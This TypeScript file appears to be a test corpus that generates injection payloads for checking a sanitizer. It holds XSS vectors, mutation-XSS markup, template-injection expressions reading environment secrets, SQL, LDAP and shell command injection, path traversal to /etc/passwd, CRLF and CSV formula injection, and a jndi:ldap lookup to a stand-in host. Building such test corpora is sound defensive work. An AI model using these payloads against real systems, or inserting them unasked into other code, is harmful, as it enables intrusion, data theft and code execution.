/** How a payload would do harm: as markup, inside an attribute, as an address, as a style, or only to a renderer of its kind. */
export type Kind = 'markup' | 'attribute' | 'address' | 'style' | 'inert'

/** A reserved host (RFC 2606); a request to it is seen and never answered. */
export const foreign = 'https://planted.invalid'

/** Each value of one list with each of another. */
const pairs = <A, B>(ones: readonly A[], others: readonly B[]): [A, B][] =>
  ones.flatMap((one) => others.map((other): [A, B] => [one, other]))

const run = 'onerror=alert(1)'
const image = `<img data-planted src=x ${run}>`

/** Handlers on elements of several content models. */
function handlers(): string[] {
  const tags = ['img', 'p', 'a', 'input', 'button', 'textarea', 'select', 'details', 'video', 'svg', 'form']
  const events = [
    'onclick',
    'onfocus',
    'onmouseover',
    'onpointerenter',
    'onanimationstart',
    'onbeforetoggle',
    'onwheel',
  ]
  return pairs(tags, events).map(([tag, event]) => `<${tag} data-planted ${event}=alert(1)>TOKEN</${tag}>`)
}

/** What divides the attributes of a tag, and what surrounds a value. */
function separators(): string[] {
  const dividers = ['\n', '\t', '\f', '/ ', ' / ', '\r\n']
  return pairs(dividers, ['', '"', "'", '`']).map(
    ([divider, quote]) =>
      `<img${divider}data-planted${divider}src=${quote}x${quote}${divider}onerror=${quote}alert(1)${quote}>TOKEN`,
  )
}

/** Ends of the places that a text may be in: a value, a comment, raw text, a template, a script. */
function breakouts(): string[] {
  const raw = ['script', 'style', 'title', 'textarea', 'noscript', 'xmp', 'template', 'iframe', 'noembed', 'noframes']
  const ends = ['`>', '--!>', '?>', '%>', '*/', '}}', ';}', '\\">', '&quot;>', ...raw.map((tag) => `</${tag}>`)]
  const bodies = ['<i data-planted>TOKEN</i>', `TOKEN ${image}`, '<svg data-planted onload=alert(1)>TOKEN</svg>']
  return pairs(ends, bodies).map(([end, body]) => `${end}${body}`)
}

/** Spellings of an address that browsers take for a program, in the attributes that hold addresses. */
function addresses(): string[] {
  const spellings = [
    '&#106;avascript:alert(1)',
    '&#x6A;avascript:alert(1)',
    '&#0000106avascript:alert(1)',
    'java&Tab;script:alert(1)',
    'java&NewLine;script:alert(1)',
    'javascript&colon;alert(1)',
    '&#1;javascript:alert(1)',
    'jAvAsCrIpT:alert(1)',
    'data:text/html;charset=utf-7,+ADw-script+AD4-alert(1)',
  ]
  const places = ['a href', 'area href', 'iframe src', 'form action', 'object data', 'embed src', 'button formaction']
  return pairs(places, spellings).map(
    ([place, address]) => `<${place.replace(' ', ' data-planted ')}="${address}">TOKEN`,
  )
}

/** Markup that changes its meaning where it is parsed a second time, in another namespace. */
function mutations(): string[] {
  const roots = ['svg><desc', 'svg><title', 'svg><foreignObject', 'math><mtext', 'math><mi', 'math><ms']
  const raw = ['style', 'xmp', 'noscript', 'textarea', 'noembed']
  return pairs(roots, raw).map(([root, tag]) => `<${root}><${tag}><!--</${tag}>${image}-->TOKEN`)
}

/** Characters that cannot be seen, that turn the direction of writing or that end a line, around markup. */
function invisible(): string[] {
  const points = [
    0x00ad, 0x034f, 0x061c, 0x115f, 0x180e, 0x200c, 0x200d, 0x200e, 0x200f, 0x2028, 0x2029, 0x202a, 0x202b,
  ]
  const others = [0x202d, 0x2060, 0x2062, 0x2066, 0x2067, 0x2068, 0x2069, 0x3164, 0xfe0f, 0xfff9, 0xe0061]
  return [...points, ...others].map((point) => {
    const sign = String.fromCodePoint(point)
    return `${sign}<i data-planted>TOKEN</i>${sign}`
  })
}

function attributes(): string[] {
  const events = ['onclick', 'onfocusin', 'onkeydown', 'onpaste', 'ondragstart', 'oncontextmenu', 'onanimationend']
  const closed = pairs(events, ['"', "'"]).map(
    ([event, quote]) => `TOKEN${quote} ${event}=${quote}alert(1)${quote} data-planted=${quote}`,
  )
  const styled = ['"', "'"].map((quote) => `TOKEN${quote} style=${quote}background:url(${foreign}/TOKEN)`)
  return [...closed, ...styled]
}

function programs(): string[] {
  const dividers = ['\t', '\n', '\r']
  const split = pairs([1, 5, 7, 9], dividers).map(
    ([at, divider]) => `${'javascript'.slice(0, at)}${divider}${'javascript'.slice(at)}:alert(1)//TOKEN`,
  )
  const led = ['\u0001', '\u0002', '\u001f', '\u00a0', '\u2003', '\n\n'].map(
    (lead) => `${lead}javascript:alert(1)//TOKEN`,
  )
  return [...split, ...led, 'vb\tscript:msgbox(1)//TOKEN', 'data:text/xml,<x/>TOKEN', 'DATA:TEXT/HTML,TOKEN']
}

function styles(): string[] {
  const properties = [
    'background-image',
    'cursor',
    'content',
    'border-image-source',
    'mask',
    'clip-path',
    'offset-path',
  ]
  const values = [`url('${foreign}/TOKEN')`, `u\\72l(${foreign}/TOKEN)`, `image-set('${foreign}/TOKEN' 1x)`]
  return pairs(properties, values).map(([property, value]) => `${property}:${value}`)
}

/** Expressions in the brackets of template languages. */
function templates(): string[] {
  const brackets = [
    ...['{{_}}', '{{{_}}}', '{{=_}}', '{{- _}}', '{%_%}', '{!!_!!}', '{#_}', '[[_]]', '[(_)]', '@(_)', '*{_}', '~{_}'],
    ...['$' + '{{_}}', '<#_>', '<?=_?>', '{php}_{/php}', '$t(_)', '%{_}', '#set($x=_)'],
  ]
  const expressions = ['7*7', "constructor.constructor('alert(1)')()", 'process.env.SECRET']
  return pairs(brackets, expressions).map(([bracket, expression]) => `${bracket.replace('_', expression)} TOKEN`)
}

/** A tag in encodings that are read twice somewhere, and look-alikes of its brackets. */
function encodings(): string[] {
  const brackets = [
    ...['%253C _ %253E', '&amp;lt; _ &amp;gt;', '&#x3c; _ &#x3e;', '&#x0003c _ &#x0003e', '\\x3c _ \\x3e'],
    ...['\\u{3c} _ \\u{3e}', '\\74 _ \\76', '=3C _ =3E', '%C0%BC _ %C0%BE', '%u003c _ %u003e', '\ufe64 _ \ufe65'],
    ...['\u2039 _ \u203a', '\u3008 _ \u3009', '\u27e8 _ \u27e9', '\u02c2 _ \u02c3', '\u226e _ \u226f'],
  ]
  return brackets.map((bracket) => `${bracket.replace(' _ ', `img data-planted src=x ${run}`)}TOKEN`)
}

/** What other readers of a text would take for more than words: Markdown, SQL, shells, headers, tables, logs. */
const others = [
  ...[
    '[TOKEN]: javascript:alert(1)',
    '[TOKEN](data:text/html,x)',
    '[TOKEN](<javascript:alert(1)>)',
    '![TOKEN](x"onerror=alert(1))',
  ],
  ...[
    "TOKEN'; drop table member; --",
    "TOKEN' or '1'='1",
    'TOKEN") or 1=1 --',
    'TOKEN\\',
    'TOKEN%_\\%',
    '*)(uid=TOKEN',
  ],
  ...[
    '$(id) TOKEN',
    '`id` TOKEN',
    '; id; TOKEN',
    '| id TOKEN',
    '|| id TOKEN',
    '../../../etc/passwd TOKEN',
    '..\\..\\TOKEN',
  ],
  ...[
    'TOKEN\r\nSet-Cookie: a=b',
    'TOKEN\r\nBcc: a@planted.invalid',
    'TOKEN\n{"level":60,"event":"error"}',
    '\u001b[31mTOKEN',
  ],
  ...[
    "=cmd|' /C calc'!A0 TOKEN",
    `=HYPERLINK("${foreign}/TOKEN")`,
    '@SUM(1+1) TOKEN',
    '+1+1 TOKEN',
    '-1+1 TOKEN',
    '\t=1+1 TOKEN',
  ],
  ...['%s%n%x TOKEN', '{0}{1} TOKEN', '%(name)s TOKEN', 'constructor.prototype TOKEN', 'toString TOKEN', 'null TOKEN'],
  ...[
    '$' + '{jndi:ldap://planted.invalid/TOKEN}',
    '{"$gt":""} TOKEN',
    '{"$ref":"#"} TOKEN',
    'TOKEN,"x",,""',
    '-----BEGIN TOKEN',
  ],
]

/** Payloads made of systematic parts, beside those that are written one by one. `TOKEN` as there. */
export const families: Record<Kind, string[]> = {
  markup: [
    ...[handlers, separators, breakouts, addresses, mutations, invisible].flatMap((family) => family()),
    '<svg><use data-planted href="data:image/svg+xml,x"></use></svg>TOKEN',
    '<svg><set data-planted attributeName=href to="javascript:alert(1)"></set></svg>TOKEN',
    '<svg></p><style><a title="</style><img data-planted src=x>">TOKEN',
  ],
  attribute: attributes(),
  address: programs(),
  style: styles(),
  inert: [
    ...templates(),
    ...encodings(),
    ...others,
    // Harmless where it is parsed once; what was parsed and written out again has the image.
    '<form id=x><math><mtext></form><form><mglyph><style></math><img data-planted src=x></style>TOKEN',
  ],
}
